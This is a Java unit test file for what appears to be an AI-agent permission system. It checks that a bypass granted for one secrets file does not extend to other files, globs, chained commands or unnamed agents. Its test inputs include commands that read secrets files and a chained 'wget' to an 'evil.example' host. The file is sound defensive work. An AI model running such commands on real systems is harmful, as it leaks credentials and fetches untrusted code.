package dev.countersign.decision.decide;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.approval.api.BypassScope;
import dev.countersign.decision.bundle.Judgement;
import dev.countersign.policy.action.Action;
import dev.countersign.policy.action.Facts;
import dev.countersign.policy.evaluate.Circumstances;
import dev.countersign.policy.evaluate.CompiledPolicy;
import dev.countersign.policy.language.PolicyFile;
import dev.countersign.policy.tool.Analyser;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class CoverageTest {

    private static final CompiledPolicy POLICY =
            CompiledPolicy.of(
                    List.of(
                            PolicyFile.read(
                                    "test.yml",
                                    """
                                    version: "2.1"
                                    permissions:
                                      filesystem: {deny: ["secrets/**"]}
                                      commands: {deny: ["make deploy"]}
                                      network: {allow_outbound: false}
                                    """)));

    @Test
    void every_responsible_fact_must_be_covered() {
        BypassScope scope = paths("secrets/app.yml");

        assertThat(covers(scope, bash("cat secrets/app.yml"))).isTrue();
        assertThat(covers(scope, bash("cat secrets/app.yml secrets/other.yml"))).isFalse();
        assertThat(covers(scope, bash("cat secrets/*.yml"))).isFalse();
        assertThat(covers(scope, bash("cat \"$FILE\" secrets/app.yml"))).isFalse();
    }

    @Test
    void a_bypass_for_a_file_is_none_for_a_command_or_a_host_beside_it() {
        BypassScope scope = paths("secrets/app.yml");

        assertThat(covers(scope, bash("cat secrets/app.yml; make deploy"))).isFalse();
        assertThat(covers(scope, bash("cat secrets/app.yml; wget https://evil.example/x")))
                .isFalse();
        assertThat(covers(scope, bash("make deploy"))).isFalse();
    }

    @Test
    void a_command_is_covered_by_its_pattern() {
        BypassScope scope =
                new BypassScope(List.of(), List.of("make deploy"), List.of(), List.of());

        assertThat(covers(scope, bash("make deploy"))).isTrue();
        assertThat(covers(scope, bash("make deploy; cat secrets/app.yml"))).isFalse();
    }

    @Test
    void agents_that_are_not_named_are_not_covered() {
        BypassScope others =
                new BypassScope(
                        List.of("secrets/app.yml"), List.of(), List.of(), List.of("payments-*"));

        assertThat(covers(others, bash("cat secrets/app.yml"))).isFalse();
    }

    @Test
    void a_pattern_that_is_none_covers_nothing() {
        assertThat(covers(paths("!secrets/app.yml"), bash("cat secrets/app.yml"))).isFalse();
    }

    private static BypassScope paths(String... patterns) {
        return new BypassScope(List.of(patterns), List.of(), List.of(), List.of());
    }

    private static Action bash(String command) {
        return new Action("Bash", Map.of("command", command), "/home/dev/app", "s");
    }

    private static boolean covers(BypassScope scope, Action action) {
        Facts facts = Analyser.analyse(action);
        Judgement judgement =
                new Judgement(
                        facts, POLICY.judge(facts, Circumstances.in("/home/dev/app")), List.of());
        assertThat(judgement.effect().compareTo(dev.countersign.decision.api.Effect.WARN))
                .as(judgement.verdict().reason())
                .isPositive();
        return Coverage.of(scope).covers(judgement, "code-assistant");
    }
}
